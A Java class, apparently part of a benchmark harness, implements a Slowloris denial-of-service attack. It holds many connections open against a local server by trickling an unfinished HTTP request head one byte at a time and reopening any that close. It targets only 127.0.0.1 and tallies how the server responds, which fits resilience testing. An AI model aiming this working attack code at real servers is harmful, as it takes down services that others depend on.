package dev.storageledger.bench;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;

/**
 * Slowloris, as the outside run did it: {@code connections} connections to 127.0.0.1, spread over the given local
 * addresses, each sending a request's head one byte every {@code pace} and never finishing it. A connection that the
 * server closes is opened again at once (after a second, when the server closed it before its head could have timed
 * out: a refusal), so the attack keeps its connections up for as long as it runs.
 */
final class SlowAttacker implements AutoCloseable {

    private static final byte[] HEAD = ("GET /customers/1/storage HTTP/1.1\r\nHost: localhost\r\nX-Slow: "
            + "a".repeat(8000)).getBytes(StandardCharsets.US_ASCII);
    /** A connection closed sooner than this after it was opened was refused, not timed out. */
    private static final Duration REFUSED_WITHIN = Duration.ofSeconds(1);

    private final int port;
    private final List<String> addresses;
    private final Duration pace;
    private final ExecutorService connections = Executors.newVirtualThreadPerTaskExecutor();
    private volatile boolean running = true;

    private final AtomicInteger open = new AtomicInteger();
    private final AtomicInteger mostOpen = new AtomicInteger();
    private final AtomicLong opened = new AtomicLong();
    private final AtomicLong refused = new AtomicLong();
    private final AtomicLong closedLater = new AtomicLong();
    private final AtomicLong closedLaterNanos = new AtomicLong();
    private final AtomicLong failedToConnect = new AtomicLong();

    SlowAttacker(int port, int connections, List<String> addresses, Duration pace) {
        this.port = port;
        this.addresses = List.copyOf(addresses);
        this.pace = pace;
        for (int connection = 0; connection < connections; connection++) {
            String address = this.addresses.get(connection % this.addresses.size());
            this.connections.submit(() -> attack(address));
        }
    }

    /** What the attack has seen so far. */
    record Tally(int open, int mostOpen, long opened, long refused, long closedLater, Duration meanLifeOfClosedLater,
            long failedToConnect) {
    }

    Tally tally() {
        long later = closedLater.get();
        return new Tally(open.get(), mostOpen.get(), opened.get(), refused.get(), later,
                Duration.ofNanos(later == 0 ? 0 : closedLaterNanos.get() / later), failedToConnect.get());
    }

    private void attack(String address) {
        while (running) {
            long start = System.nanoTime();
            try (Socket socket = new Socket()) {
                socket.bind(new InetSocketAddress(address, 0));
                socket.connect(new InetSocketAddress("127.0.0.1", port), 30_000);
                opened.incrementAndGet();
                mostOpen.accumulateAndGet(open.incrementAndGet(), Math::max);
                try {
                    trickle(socket);
                } finally {
                    open.decrementAndGet();
                }
                long life = System.nanoTime() - start;
                if (life < REFUSED_WITHIN.toNanos()) {
                    refused.incrementAndGet();
                    pause(REFUSED_WITHIN);
                } else {
                    closedLater.incrementAndGet();
                    closedLaterNanos.addAndGet(life);
                }
            } catch (IOException e) {
                failedToConnect.incrementAndGet();
                pause(REFUSED_WITHIN);
            }
        }
    }

    /** Sends the head a byte every pace until the server closes the connection or the attack ends. */
    private void trickle(Socket socket) throws IOException {
        socket.setSoTimeout((int) pace.toMillis());
        OutputStream out = socket.getOutputStream();
        InputStream in = socket.getInputStream();
        for (int sent = 0; running && sent < HEAD.length; sent++) {
            try {
                out.write(HEAD[sent]);
                out.flush();
                while (in.read() != -1) {
                    // whatever the server answers before closing
                }
                return;
            } catch (SocketTimeoutException paced) {
                // the next byte is due
            } catch (IOException closed) {
                return;
            }
        }
    }

    /** The attack's pacing (a byte every so often, by definition a fixed wait), not a wait for something to happen. */
    private static void pause(Duration duration) {
        try {
            Thread.sleep(duration);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    @Override
    public void close() {
        running = false;
        connections.shutdownNow();
        connections.close();
    }
}
